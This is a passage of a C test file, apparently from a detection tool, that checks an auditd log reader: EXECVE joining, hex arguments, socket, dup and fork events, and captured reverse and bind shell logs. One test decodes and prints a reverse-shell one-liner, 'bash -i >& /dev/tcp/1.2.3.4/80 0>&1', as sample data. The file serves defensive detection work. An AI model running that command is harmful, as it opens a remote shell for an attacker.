/* test_auditd.c: the auditd reader.
 *   - EXECVE records joined into commands (`score -f auditd`): quoted and hex arguments, long
 *     arguments split over records (aN_len, aN[M]), interleaved events, EOE, malformed lines
 *     counted, the shell quoting of the joined command line;
 *   - audit events as sw_events (`replay -f auditd`), on hand-written records for each call and
 *     corner (RAW and ENRICHED, inet6, chunked and hex arguments, vfork order, clone3 threads,
 *     aarch64, other arches, bad records, strict, bounded tables);
 *   - the same on logs captured from the real auditd (tests/fixtures/auditd_*.log.gz, made by
 *     tools/gen_audit_fixtures.sh): every technique of the manifest has its socket, dups, forks,
 *     the shell's exec and the attacker's `id`; the ENRICHED capture reads like its RAW form.
 */
#include <arpa/inet.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "auditd_read.h"
#include "tap.h"
#include "trace_fmt.h"
#include "trace_read.h"

struct got {
	int n;
	char cmd[8][512];
	uint64_t serial[8];
	bool partial[8];
};

static void on_exec(void *ctx, const struct auditd_exec *ex)
{
	struct got *g = ctx;

	if (g->n < 8) {
		auditd_cmdline(ex, g->cmd[g->n], sizeof(g->cmd[0]));
		g->serial[g->n] = ex->serial;
		g->partial[g->n] = ex->partial;
	}
	g->n++;
}

static struct auditd_reader *feed(struct got *g, const char *const *lines, size_t n)
{
	struct auditd_reader *r = auditd_new(on_exec, g);

	memset(g, 0, sizeof(*g));
	for (size_t i = 0; i < n; i++)
		auditd_feed_line(r, lines[i], strlen(lines[i]));
	auditd_finish(r);
	return r;
}

static void test_simple(void)
{
	static const char *const in[] = {
		"type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes",
		"type=EXECVE msg=audit(1700000000.100:10): argc=3 a0=\"ls\" a1=\"-la\" a2=\"/tmp\"",
		"node=h1 type=EXECVE msg=audit(1700000000.200:11): argc=3 a0=\"bash\" a1=\"-c\" "
		"a2=69642024(null)",
		"type=EXECVE msg=audit(1700000000.300:12): argc=2 a0=\"sh\" a1=2D63",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 3);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "ls -la /tmp"), "%s", g.cmd[0]);
	CHECK(g.serial[0] == 10 && g.serial[1] == 11 && !g.partial[0]);
	/* an unquoted value that is not hex stays as it is */
	CHECKF(!strcmp(g.cmd[1], "bash -c '69642024(null)'"), "%s", g.cmd[1]);
	auditd_free(r);
	r = feed(&g, in + 3, 1);
	CHECKF(g.n == 1 && !strcmp(g.cmd[0], "sh -c"), "%s", g.cmd[0]);
	auditd_free(r);
}

static void test_hex_and_quoting(void)
{
	/* a2 = "bash -i >& /dev/tcp/1.2.3.4/80 0>&1" hex-encoded; a3 = "it's" */
	static const char *const in[] = {
		"type=EXECVE msg=audit(1.0:20): argc=4 a0=\"bash\" a1=\"-c\" "
		"a2=62617368202D69203E26202F6465762F7463702F312E322E332E342F383020303E2631 a3=69742773",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 1);

	CHECK(g.n == 1);
	CHECKF(!strcmp(g.cmd[0], "bash -c 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1' 'it'\\''s'"), "%s",
	       g.cmd[0]);
	auditd_free(r);
}

static void test_split_records(void)
{
	/* a1 = "-la /" (5 bytes) in two chunks over two records; event 31 interleaved. */
	static const char *const in[] = {
		"type=EXECVE msg=audit(2.0:30): argc=3 a0=\"ls\" a1_len=5 a1[0]=2D6C",
		"type=EXECVE msg=audit(2.0:31): argc=1 a0=\"id\"",
		"type=EXECVE msg=audit(2.0:30): a1[1]=\"a /\" a2=\"x\"",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, 3);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "id") && g.serial[0] == 31, "%s", g.cmd[0]);
	CHECKF(!strcmp(g.cmd[1], "ls '-la /' x") && g.serial[1] == 30 && !g.partial[1], "%s",
	       g.cmd[1]);
	auditd_free(r);
}

static void test_incomplete_and_bad(void)
{
	static const char *const in[] = {
		"type=EXECVE msg=audit(3.0:40): argc=3 a0=\"cat\" a1=\"f\"",   /* a2 never comes */
		"type=EOE msg=audit(3.0:40): ",
		"type=EXECVE msg=audit(garbage",
		"type=EXECVE no header at all",
		"complete garbage \x01\x02",
		"",
		"type=EXECVE msg=audit(4.0:41): argc=2 a0=\"unterminated a1=",
	};
	struct got g;
	struct auditd_reader *r = feed(&g, in, sizeof(in) / sizeof(in[0]));
	const struct auditd_stats *st = auditd_stats(r);

	CHECK(g.n == 2);
	CHECKF(!strcmp(g.cmd[0], "cat f ''") && g.partial[0], "%s", g.cmd[0]);
	CHECK(g.partial[1]);
	CHECK(st->bad_records == 2 && st->events == 2 && st->partial_events == 2 && st->lines == 7);
	auditd_free(r);
}

static void test_many_pending(void)
{
	struct got g;
	struct auditd_reader *r = auditd_new(on_exec, &g);
	char line[128];

	memset(&g, 0, sizeof(g));
	for (int i = 0; i < AUDITD_PENDING + 3; i++) {
		int n = snprintf(line, sizeof(line), "type=EXECVE msg=audit(5.0:%d): argc=2 a0=\"x\"",
				 100 + i);

		auditd_feed_line(r, line, (size_t)n);
	}
	CHECK(g.n == 3 && g.serial[0] == 100 && g.partial[0]); /* oldest flushed first */
	auditd_finish(r);
	CHECK(g.n == AUDITD_PENDING + 3);
	auditd_free(r);
}

/* ---- audit events as sw_events ------------------------------------------------------------- */

struct evrec {
	char *text;                /* the event as a text trace line */
	struct sw_event ev;        /* its fields and facts (strings not kept) */
	char argv[256];            /* exec: the command line's bytes */
	uint32_t argv_len;
};

struct evlog {
	size_t n, cap;
	struct evrec *e;
};

static int collect(void *ctx, const struct sw_event *ev)
{
	struct evlog *l = ctx;
	struct evrec *r;
	char line[4096];

	if (l->n == l->cap) {
		l->cap = l->cap ? 2 * l->cap : 64;
		l->e = realloc(l->e, l->cap * sizeof(*l->e));
		if (!l->e)
			abort();
	}
	r = &l->e[l->n++];
	trace_format(ev, line, sizeof(line));
	r->text = strdup(line);
	r->ev = *ev;
	r->argv_len = 0;
	if (ev->kind == SW_EV_EXEC) {
		r->argv_len = ev->exec.argv.len < sizeof(r->argv) ? ev->exec.argv.len : sizeof(r->argv);
		memcpy(r->argv, ev->exec.argv.p, r->argv_len);
	}
	return 0;
}

static void evlog_free(struct evlog *l)
{
	for (size_t i = 0; i < l->n; i++)
		free(l->e[i].text);
	free(l->e);
	memset(l, 0, sizeof(*l));
}

/* The first event at or after from whose text holds every string given (NULL-terminated); -1. */
static long find_from(const struct evlog *l, size_t from, ...)
{
	for (size_t i = from; i < l->n; i++) {
		va_list ap;
		const char *s;
		bool all = true;

		va_start(ap, from);
		while (all && (s = va_arg(ap, const char *)))
			all = strstr(l->e[i].text, s) != NULL;
		va_end(ap);
		if (all)
			return (long)i;
	}
	return -1;
}
#define FIND(l, ...) find_from(l, 0, __VA_ARGS__, (const char *)NULL)

/* stderr into a temporary file while a test reads, so reported bad records can be checked. */
struct errcap {
	FILE *tmp;
	int saved;
	char text[4096];
};

static void errcap_begin(struct errcap *c)
{
	fflush(stderr);
	c->tmp = tmpfile();
	c->saved = dup(2);
	dup2(fileno(c->tmp), 2);
}

static void errcap_end(struct errcap *c)
{
	size_t n;

	fflush(stderr);
	dup2(c->saved, 2);
	close(c->saved);
	rewind(c->tmp);
	n = fread(c->text, 1, sizeof(c->text) - 1, c->tmp);
	c->text[n] = '\0';
	fclose(c->tmp);
}

/* Read text (lines) as an auditd log named "t". */
static int read_text(const char *text, bool strict, struct evlog *l, struct sw_read_stats *st,
		     struct auditd_event_stats *es, struct errcap *err)
{
	FILE *f = fmemopen((void *)text, strlen(text), "r");
	int rc;

	memset(l, 0, sizeof(*l));
	memset(st, 0, sizeof(*st));
	errcap_begin(err);
	rc = auditd_read_events(f, "t", strict, collect, l, st, es);
	errcap_end(err);
	fclose(f);
	return rc;
}

#define SC(serial, rest) "type=SYSCALL msg=audit(1796159768.558:" #serial "): arch=c000003e " rest
#define WHO(ppid, pid, comm, exe) " items=0 ppid=" #ppid " pid=" #pid " auid=0 uid=1000 gid=0" \
	" euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4 comm=\"" comm "\" exe=\"" \
	exe "\" key=\"sw\""
#define TITLE(serial) "type=PROCTITLE msg=audit(1796159768.558:" #serial "): " \
	"proctitle=7368002D6900\n"
/* a call of process 60 ("c") with its PROCTITLE */
#define CALL60(serial, rest) SC(serial, rest) WHO(1, 60, "c", "/c") "\n" TITLE(serial)

static const char connect_raw[] =
	SC(3875, "syscall=42 success=no exit=-115 a0=3 a1=7ffd45244270 a2=10 a3=0")
	WHO(100, 101, "python3", "/usr/bin/python3.11") "\n"
	"type=SOCKADDR msg=audit(1796159768.558:3875): saddr=0200115C7F0000010000000000000000\n"
	TITLE(3875);

static const char connect_enriched[] =
	SC(3875, "syscall=42 success=no exit=-115 a0=3 a1=7ffd45244270 a2=10 a3=0")
	WHO(100, 101, "python3", "/usr/bin/python3.11")
	"\x1d" "ARCH=x86_64 SYSCALL=connect AUID=\"root\" UID=\"user\" GID=\"root\" pid=9 exit=0\n"
	"type=SOCKADDR msg=audit(1796159768.558:3875): saddr=0200115C7F0000010000000000000000"
	"\x1d" "SADDR={ saddr_fam=inet laddr=127.0.0.1 lport=4444 }\n"
	TITLE(3875);

static void test_connect_raw_and_enriched(void)
{
	static const char *const in[] = { connect_raw, connect_enriched };
	struct evlog l;
	struct sw_read_stats st;
	struct errcap err;

	for (int k = 0; k < 2; k++) {
		CHECK(read_text(in[k], false, &l, &st, NULL, &err) == 0);
		CHECKF(l.n == 2, "%zu events", l.n);
		if (l.n != 2)
			continue;
		/* its fork is inferred from ppid= (the process's first event) */
		CHECKF(!strcmp(l.e[0].text, "fork pid=100 ppid=0 t=1796159768558000000 child=101"), "%s",
		       l.e[0].text);
		CHECKF(!strcmp(l.e[1].text, "connect pid=101 ppid=100 uid=1000 t=1796159768558000000 "
			       "comm=python3 fd=3 family=inet addr=127.0.0.1 port=4444 => -115"), "%s",
		       l.e[1].text);
		CHECK(l.e[1].ev.kind == SW_EV_SOCK && !l.e[1].ev.sock.accepted);
		CHECK(l.e[1].ev.sock.fd == 3 && l.e[1].ev.sock.ret == -115);
		CHECK(l.e[1].ev.sock.sock.family == AF_INET && l.e[1].ev.sock.sock.pport == 4444);
		CHECK(l.e[1].ev.sock.sock.paddr[0] == 127 && l.e[1].ev.sock.sock.paddr[3] == 1);
		CHECK(l.e[1].ev.has_pid && l.e[1].ev.has_uid && l.e[1].ev.has_time);
		CHECK(l.e[1].ev.seq == 1 && l.e[0].ev.seq == 1 && st.lines == 3 && st.bad == 0);
		CHECKF(strstr(err.text, "t: auditd: 3 records in 1 audit events;"), "%s", err.text);
		evlog_free(&l);
	}
}

static void test_accept_inet6_unix(void)
{
	static const char in[] =
		SC(10, "syscall=288 success=yes exit=4 a0=3 a1=7ffd a2=7ffe a3=80000")
		WHO(1, 50, "srv", "/usr/bin/srv") "\n"
		"type=SOCKADDR msg=audit(1796159768.558:10): "
		"saddr=0A00D431000000000000000000000000000000000000000100000000\n"
		TITLE(10)
		SC(11, "syscall=43 success=yes exit=6 a0=5 a1=0 a2=0 a3=0") WHO(1, 50, "srv", "/usr/bin/srv") "\n"
		TITLE(11)
		SC(12, "syscall=42 success=no exit=-2 a0=7 a1=7ffd a2=6e a3=0")
		WHO(1, 50, "srv", "/usr/bin/srv") "\n"
		"type=SOCKADDR msg=audit(1796159768.558:12): saddr=01002F746D702F73\n"
		TITLE(12);
	struct evlog l;
	struct sw_read_stats st;
	struct errcap err;

	CHECK(read_text(in, false, &l, &st, NULL, &err) == 0);
	CHECK(l.n == 4);   /* fork pid=1 child=50, then the three calls */
	CHECK(FIND(&l, "accept4 pid=50 ", " fd=3 family=inet6 addr=::1 port=54321 => 4") == 1);
	CHECK(l.n > 1 && l.e[1].ev.sock.accepted && l.e[1].ev.sock.sock.family == AF_INET6 &&
	      l.e[1].ev.sock.sock.paddr[15] == 1 && l.e[1].ev.sock.ret == 4);
	/* accept(fd, NULL, NULL): no SOCKADDR, so no peer */
	CHECK(FIND(&l, "accept pid=50 ", "comm=srv fd=5 => 6") == 2);
	CHECK(FIND(&l, "connect pid=50 ", "fd=7 family=unix => -2") == 3);
	evlog_free(&l);
}

static void test_dups(void)
{
	static const char in[] =
		CALL60(20, "syscall=32 success=yes exit=4 a0=3 a1=0 a2=0 a3=0")
		CALL60(21, "syscall=33 success=yes exit=0 a0=4 a1=0 a2=0 a3=0")
		CALL60(22, "syscall=292 success=yes exit=1 a0=4 a1=1 a2=80000 a3=0")
		CALL60(23, "syscall=72 success=yes exit=10 a0=4 a1=0 a2=a a3=0")
		CALL60(24, "syscall=72 success=yes exit=11 a0=4 a1=406 a2=0 a3=0")
		CALL60(25, "syscall=72 success=yes exit=2 a0=4 a1=3 a2=0 a3=0")      /* F_GETFL */
		CALL60(26, "syscall=33 success=no exit=-9 a0=9 a1=2 a2=0 a3=0");
	struct evlog l;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	struct errcap err;
	long i;

	CHECK(read_text(in, false, &l, &st, &es, &err) == 0);
	CHECK(l.n == 6 && es.other_calls == 1 && es.failed == 1);  /* F_GETFL; the failed dup2 */
	CHECK(FIND(&l, "dup pid=60 ", "fd=3 => 4") == 1);
	CHECK(FIND(&l, "dup2 pid=60 ", "fd=4 newfd=0 => 0") == 2);
	CHECK((i = FIND(&l, "dup3 pid=60 ", "fd=4 newfd=1 flags=0x80000 => 1")) == 3);
	CHECK(i == 3 && l.e[i].ev.kind == SW_EV_DUP && l.e[i].ev.dup.flags == 0x80000 &&
	      l.e[i].ev.dup.ret == 1 && l.e[i].ev.dup.src.kind == SW_FD_UNKNOWN);
	CHECK(FIND(&l, "fcntl pid=60 ", "fd=4 cmd=F_DUPFD arg=10 => 10") == 4);
	CHECK((i = FIND(&l, "fcntl pid=60 ", "fd=4 cmd=F_DUPFD_CLOEXEC arg=0 => 11")) == 5);
	CHECK(i == 5 && l.e[i].ev.dup.flags == 1030 && l.e[i].ev.dup.oldfd == 4);
	evlog_free(&l);
}

#define EXEC_SC(serial, ok) SC(serial, "syscall=59 success=" ok " a0=55d a1=55e a2=55f a3=0") \
	WHO(70, 71, "bash", "/usr/bin/bash") "\n"

static void test_exec(void)
{
	static const char in[] =
		/* a hex argument with a tab, and a trailing empty argument (the live sensor drops the
		 * trailing NULs of the command line) */
		EXEC_SC(30, "yes exit=0")
		"type=EXECVE msg=audit(1796159768.558:30): argc=4 a0=\"bash\" a1=\"-c\" "
		"a2=6563686F20610962 a3=\"\"\n"
		"type=CWD msg=audit(1796159768.558:30): cwd=\"/\"\n"
		TITLE(30)
		/* a long argument in chunks over two records */
		EXEC_SC(31, "yes exit=0")
		"type=EXECVE msg=audit(1796159768.558:31): argc=2 a0=\"sh\" a1_len=5 a1[0]=2D63\n"
		"type=EXECVE msg=audit(1796159768.558:31): a1[1]=\" id\"\n"
		/* no EXECVE record (lost): the PROCTITLE's command line */
		EXEC_SC(32, "yes exit=0") TITLE(32)
		/* an argument missing */
		EXEC_SC(33, "yes exit=0")
		"type=EXECVE msg=audit(1796159768.558:33): argc=3 a0=\"cat\" a2=\"f\"\n" TITLE(33)
		/* failed: dropped */
		EXEC_SC(34, "no exit=-2") TITLE(34);
	struct evlog l;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	struct errcap err;
	long i;

	CHECK(read_text(in, false, &l, &st, &es, &err) == 0);
	CHECKF(l.n == 5 && es.failed == 1, "%zu events", l.n);
	i = FIND(&l, "execve pid=71 ppid=70 uid=1000 t=1796159768558000000 comm=bash "
		 "exe=/usr/bin/bash argv=\"bash -c echo a\\tb\" argl=4,2,8 => 0");
	CHECKF(i == 1, "%s", l.n > 1 ? l.e[1].text : "");
	CHECK(i == 1 && l.e[i].argv_len == 16 && !memcmp(l.e[i].argv, "bash -c echo a\tb", 16));
	CHECK(i == 1 && l.e[i].ev.kind == SW_EV_EXEC && !l.e[i].ev.exec.stdio_known &&
	      !l.e[i].ev.exec.argv_trunc && !sw_event_arg(&l.e[i].ev, "fd0"));
	CHECK(l.e[1].ev.seq == 1);
	CHECK(FIND(&l, "execve pid=71 ", "argv=\"sh -c id\" argl=2,5 => 0") == 2);   /* "-c id" */
	CHECK(FIND(&l, "execve pid=71 ", "argv=\"sh -i\" => 0") == 3);
	/* an empty argument: argl says where the arguments are (include/argl.h) */
	CHECK((i = FIND(&l, "execve pid=71 ", "argv=\"cat  f\" argl=3,0,1 argv_trunc=1 => 0")) == 4);
	CHECK(i == 4 && l.e[i].ev.exec.argv_trunc);
	evlog_free(&l);
}

/* An exec that looked up paths (items=2) is complete at its CWD record, which names the working
 * directory (hex, as auditd writes a value with a blank); the records after it are late. */
static void test_exec_cwd(void)
{
#define SC_ITEMS(serial, pid) SC(serial, "syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 " \
	"items=2 ppid=70 pid=" #pid " uid=1000 comm=\"bash\" exe=\"/usr/bin/bash\"") "\n"
	static const char in[] =
		SC_ITEMS(40, 72)
		"type=EXECVE msg=audit(1796159768.558:40): argc=1 a0=\"id\"\n"
		"type=CWD msg=audit(1796159768.558:40): cwd=2F746D702F6120646972\n"
		"type=PATH msg=audit(1796159768.558:40): item=0 name=\"/usr/bin/id\"\n"
		TITLE(40)
		SC_ITEMS(41, 73)   /* no CWD record: ends at its PROCTITLE, no cwd= */
		"type=EXECVE msg=audit(1796159768.558:41): argc=1 a0=\"ls\"\n"
		TITLE(41);
#undef SC_ITEMS
	struct evlog l;
	struct sw_read_stats st;
	struct errcap err;
	long i;

	CHECK(read_text(in, false, &l, &st, NULL, &err) == 0);
	i = FIND(&l, "execve pid=72 ", " comm=bash cwd=\"/tmp/a dir\" exe=/usr/bin/bash argv=id => 0");
	CHECKF(i >= 0, "%zu events", l.n);
	CHECK(FIND(&l, "execve pid=73 ", " comm=bash exe=/usr/bin/bash argv=ls => 0") >= 0);
	evlog_free(&l);
}

#define CLONE(serial, nr, a0, exit, ppid, pid) \
	SC(serial, "syscall=" #nr " success=yes exit=" #exit " a0=" #a0 " a1=0 a2=0 a3=0") \
	WHO(ppid, pid, "p", "/p") "\n" TITLE(serial)
#define EXEC(serial, ppid, pid) SC(serial, "syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0") \
	WHO(ppid, pid, "c", "/c") "\n" \
	"type=EXECVE msg=audit(1796159768.558:" #serial "): argc=1 a0=\"c\"\n"

static void test_forks(void)
{
	static const char in[] =
		CLONE(40, 56, 1200011, 201, 1, 200)   /* fork: announced at once */
		EXEC(41, 200, 201)
		CLONE(42, 56, 3d0f00, 202, 1, 200)    /* CLONE_THREAD: no process */
		EXEC(43, 200, 203)                    /* a vfork child's exec before ... */
		CLONE(44, 58, 0, 203, 1, 200)         /* ... its parent's vfork record */
		CLONE(45, 435, 7ffd, 204, 1, 200)     /* clone3: kept until the child shows up */
		CLONE(46, 435, 7ffd, 205, 1, 200)     /* clone3 of a thread: never shows up */
		EXEC(47, 200, 204)
		SC(48, "syscall=231 a0=7 a1=e7 a2=3c a3=0") WHO(200, 204, "c", "/c") "\n" TITLE(48)
		SC(49, "syscall=60 a0=0 a1=0 a2=0 a3=0") WHO(1, 200, "p", "/p") "\n" TITLE(49)
		EXEC(50, 300, 204)                    /* pid 204 again: a new process */
		/* a child that exits before its parent's clone record is written: no fork after */
		SC(51, "syscall=231 a0=0 a1=e7 a2=3c a3=0") WHO(200, 206, "c", "/c") "\n" TITLE(51)
		CLONE(52, 56, 1200011, 206, 1, 200);
	struct evlog l;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	struct errcap err;
	long f;

	CHECK(read_text(in, false, &l, &st, &es, &err) == 0);
	CHECK(FIND(&l, "fork pid=1 ", "child=200") == 0);
	CHECK(FIND(&l, "fork pid=200 ppid=1 uid=1000 ", "comm=p child=201") == 1);
	CHECK(l.n > 2 && l.e[1].ev.kind == SW_EV_FORK && l.e[1].ev.fork_child == 201);
	CHECK(FIND(&l, "execve pid=201 ") == 2);
	CHECK(FIND(&l, "child=202") < 0 && FIND(&l, "child=205") < 0);
	f = FIND(&l, "fork pid=200 ", "child=203");
	CHECK(f == 3 && FIND(&l, "execve pid=203 ") == 4 && l.e[f].ev.seq == l.e[4].ev.seq);
	/* the vfork record that came after: dropped */
	CHECK(find_from(&l, (size_t)f + 1, "child=203", (const char *)NULL) < 0);
	f = FIND(&l, "fork pid=200 ", "child=204");
	CHECK(f == 5 && FIND(&l, "execve pid=204 ppid=200 ") == 6);
	CHECK(f == 5 && l.e[f].ev.seq == 11);  /* the clone3 record's line */
	CHECK(FIND(&l, "exit pid=204 ppid=200 ", "code=7") == 7 && l.e[7].ev.kind == SW_EV_EXIT &&
	      l.e[7].ev.exit.code == 7);
	CHECK(FIND(&l, "fork pid=300 ", "child=204") == 8 && FIND(&l, "execve pid=204 ppid=300 ") == 9);
	CHECK(FIND(&l, "exit pid=206 ", "code=0") == 10 && FIND(&l, "child=206") < 0);
	CHECKF(l.n == 11, "%zu events", l.n);
	CHECK(es.threads == 2 && es.other_calls == 1 && es.forks_inferred == 3);
	evlog_free(&l);
}

static void test_arches(void)
{
	static const char in[] =
		"type=SYSCALL msg=audit(5.0:60): arch=c00000b7 syscall=203 success=yes exit=0 a0=3 a1=1 "
		"a2=10 a3=0 items=0 ppid=1 pid=80 uid=0 comm=\"a\" exe=\"/a\"\n"
		"type=SOCKADDR msg=audit(5.0:60): saddr=020001BB0A0000010000000000000000\n"
		"type=PROCTITLE msg=audit(5.0:60): proctitle=61\n"
		"type=SYSCALL msg=audit(5.0:61): arch=c00000b7 syscall=24 success=yes exit=0 a0=3 a1=0 "
		"a2=0 a3=0 items=0 ppid=1 pid=80 uid=0 comm=\"a\" exe=\"/a\"\n"
		"type=PROCTITLE msg=audit(5.0:61): proctitle=61\n"
		"type=SYSCALL msg=audit(5.0:62): arch=c00000b7 syscall=220 success=yes exit=81 a0=1200011 "
		"a1=0 a2=0 a3=0 items=0 ppid=1 pid=80 uid=0 comm=\"a\" exe=\"/a\"\n"
		"type=PROCTITLE msg=audit(5.0:62): proctitle=61\n"
		"type=SYSCALL msg=audit(5.0:63): arch=40000003 syscall=102 success=yes exit=0 a0=3 a1=0 "
		"a2=0 a3=0 items=0 ppid=1 pid=80 uid=0 comm=\"a\" exe=\"/a\"\n"
		"type=SYSCALL msg=audit(5.0:64): arch=c000003e syscall=0 success=yes exit=0 a0=3 a1=0 "
		"a2=0 a3=0 items=0 ppid=1 pid=80 uid=0 comm=\"a\" exe=\"/a\"\n";
	struct evlog l;
	struct sw_read_stats st;
	struct auditd_event_stats es;
	struct errcap err;

	CHECK(read_text(in, false, &l, &st, &es, &err) == 0);
	CHECKF(l.n == 4, "%zu", l.n);
	CHECK(FIND(&l, "connect pid=80 ", "fd=3 family=inet addr=10.0.0.1 port=443 => 0") == 1);
	CHECK(FIND(&l, "dup3 pid=80 ", "fd=3 newfd=0 flags=0 => 0") == 2);
	CHECK(FIND(&l, "fork pid=80 ", "child=81") == 3);
	CHECK(es.other_arch == 1 && es.other_calls == 1 && st.bad == 0);
	evlog_free(&l);
}

static void test_bad_and_strict(void)
{
	static const char in[] =
		SC(70, "syscall=32 success=yes exit=4 a0=3 a1=0 a2=0 a3=0") WHO(1, 60, "c", "/c") "\n"
		"type=SYSCALL msg=audit(1.0:71): arch=c000003e syscall=42 success=yes exit=0\n"
		"garbage \x01\x02\n"
		"\n"
		"type=SOCKADDR msg=audit(1.0:72): saddr=zz\n"
		"type=SYSCALL msg=audit(1.0:oops): arch=c000003e\n"
		SC(73, "syscall=32 success=yes exit=5 a0=3 a1=0 a2=0 a3=0") WHO(1, 60, "c", "/c") "\n";
	struct evlog l;
	struct sw_read_stats st;
	struct errcap err;

	CHECK(read_text(in, false, &l, &st, NULL, &err) == 0);
	CHECKF(st.bad == 4 && st.lines == 7, "bad %llu lines %llu", (unsigned long long)st.bad,
	       (unsigned long long)st.lines);
	CHECKF(strstr(err.text, "t:2: SYSCALL record without arch=, syscall= or pid=\n") &&
	       strstr(err.text, "t:3: not an audit record (no type=)\n") &&
	       strstr(err.text, "t:5: SOCKADDR record without a hex saddr=\n") &&
	       strstr(err.text, "t:6: no msg=audit(TIME:SERIAL) header\n"), "%s", err.text);
	CHECK(FIND(&l, "dup pid=60 ", "=> 4") >= 0 && FIND(&l, "dup pid=60 ", "=> 5") >= 0);
	evlog_free(&l);
	/* --strict: stops at the first bad record */
	CHECK(read_text(in, true, &l, &st, NULL, &err) == -1);
	CHECK(st.bad == 1 && st.lines == 2 && FIND(&l, "=> 5") < 0);
	evlog_free(&l);
}

static void test_bad_shown_once(void)
{
	char in[64 * 20] = "";
	struct evlog l;
	struct sw_read_stats st;
	struct errcap err;
	int lines = 0;

	for (int i = 0; i < SW_SHOW_BAD + 5; i++)
		strcat(in, "not audit\n");
	CHECK(read_text(in, false, &l, &st, NULL, &err) == 0);
	for (const char *p = err.text; (p = strchr(p, '\n')); p++)
		lines++;
	CHECKF(st.bad == SW_SHOW_BAD + 5 && lines == SW_SHOW_BAD + 2, "%d lines: %s", lines,
	       err.text);  /* the first few, one "more" line, the summary */
	CHECK(strstr(err.text, "t:11: more bad lines from here on: counted, not shown\n") != NULL);
	evlog_free(&l);
}

struct joined {
	int n, incomplete;
	uint32_t arg0_len;
};

static void on_joined_event(void *ctx, const struct auditd_event *ev)
{
	struct joined *j = ctx;

	j->n++;
	j->incomplete += !ev->complete;
	if (ev->has_execve && ev->exec.nargs)
		j->arg0_len = ev->exec.argv[0].len;
}

/* The join table is bounded: when it is full the oldest goes, a stale event goes, an argument
 * longer than AUDITD_MAX_BYTES is cut. */
static void test_bounded(void)
{
	struct joined j = { 0 };
	struct auditd_reader *r = auditd_join_new(on_joined_event, NULL, &j);
	const struct auditd_stats *st = auditd_stats(r);
	char line[256], *big;
	size_t n = 2 * AUDITD_MAX_BYTES + 64;

	for (int i = 0; i < AUDITD_PENDING + 5; i++) {
		int k = snprintf(line, sizeof(line), SC(%d, "syscall=32 success=yes exit=4 a0=3 a1=0 "
			"a2=0 a3=0") WHO(1, 60, "c", "/c"), 100 + i);

		auditd_feed_line(r, line, (size_t)k);
	}
	CHECK(j.n == 5 && j.incomplete == 5 && st->flushed_full == 5);
	for (int i = 0; i <= AUDITD_STALE_LINES; i++)
		auditd_feed_line(r, "", 0);
	CHECK(j.n == AUDITD_PENDING + 5 && st->flushed_stale == AUDITD_PENDING);
	big = malloc(n + 1);
	memcpy(big, "type=EXECVE msg=audit(1.0:9): argc=1 a0=", 40);
	memset(big + 40, 'A', n - 40);   /* hex: decodes to half as many bytes, still too many */
	auditd_feed_line(r, big, n);
	CHECK(j.n == AUDITD_PENDING + 6 && j.arg0_len <= AUDITD_MAX_BYTES && st->partial_events == 1);
	free(big);
	auditd_free(r);
}

/* ---- logs captured from the real auditd ----------------------------------------------------- */

static FILE *fixture(const char *name)
{
	char path[512];
	const char *root = getenv("SW_ROOT");

	snprintf(path, sizeof(path), "%s/tests/fixtures/%s", root ? root : ".", name);
	return strstr(name, ".gz") ? trace_open(path) : fopen(path, "r");
}

static int read_fixture(const char *name, struct evlog *l, struct sw_read_stats *st,
			struct auditd_event_stats *es)
{
	FILE *f = fixture(name);
	struct errcap err;
	int rc;

	memset(l, 0, sizeof(*l));
	memset(st, 0, sizeof(*st));
	if (!f)
		return -2;
	errcap_begin(&err);
	rc = auditd_read_events(f, name, false, collect, l, st, es);
	errcap_end(&err);
	fclose(f);
	return rc;
}

struct tech {
	char name[32], kind[16], peer[32];
	unsigned root, shell, port, listener;
};

/* The processes the technique started: root and every descendant, from the fork events. */
static bool in_tree(const struct evlog *l, unsigned root, unsigned pid)
{
	unsigned tree[256] = { root };
	size_t n = 1;

	for (size_t i = 0; i < l->n && n < 256; i++) {
		const struct sw_event *e = &l->e[i].ev;

		for (size_t k = 0; e->kind == SW_EV_FORK && k < n; k++)
			if (tree[k] == e->pid) {
				tree[n++] = e->fork_child;
				break;
			}
	}
	for (size_t k = 0; k < n; k++)
		if (tree[k] == pid)
			return true;
	return false;
}

/* The first event of process pid comes after a fork that announced it. */
static bool forked_first(const struct evlog *l, unsigned pid)
{
	for (size_t i = 0; i < l->n; i++) {
		const struct sw_event *e = &l->e[i].ev;

		if (e->kind == SW_EV_FORK && e->fork_child == pid)
			return true;
		if (e->pid == pid)
			return false;
	}
	return false;
}

/* The remote end of the technique: a connect to its listener, or (bind shell) the accept of the
 * attacker's connection, by one of its processes; returns the event's index or -1. */
static long sock_event(const struct evlog *l, const struct tech *t)
{
	bool bind = strstr(t->name, "bind") != NULL;
	unsigned port = bind ? (unsigned)atoi(strchr(t->peer, ':') + 1) : t->port;

	for (size_t i = 0; i < l->n; i++) {
		const struct sw_event *e = &l->e[i].ev;

		if (e->kind == SW_EV_SOCK && e->sock.accepted == bind && e->sock.sock.family == AF_INET &&
		    e->sock.sock.pport == port && e->sock.sock.paddr[0] == 127 &&
		    in_tree(l, t->root, e->pid) && (e->sock.ret == 0 || e->sock.ret == -115 || bind))
			return (long)i;
	}
	return -1;
}

/* Dups onto 0, 1 or 2 in the technique's processes, and the kinds of dup seen. */
static int stdio_dups(const struct evlog *l, const struct tech *t, bool *dup3, bool *fcntl)
{
	int n = 0;

	for (size_t i = 0; i < l->n; i++) {
		const struct sw_event *e = &l->e[i].ev;

		if (e->kind != SW_EV_DUP || e->dup.ret < 0 || e->dup.ret > 2 || !in_tree(l, t->root, e->pid))
			continue;
		n++;
		*dup3 |= sw_str_eqc(e->call, "dup3");
		*fcntl |= sw_str_eqc(e->call, "fcntl");
	}
	return n;
}

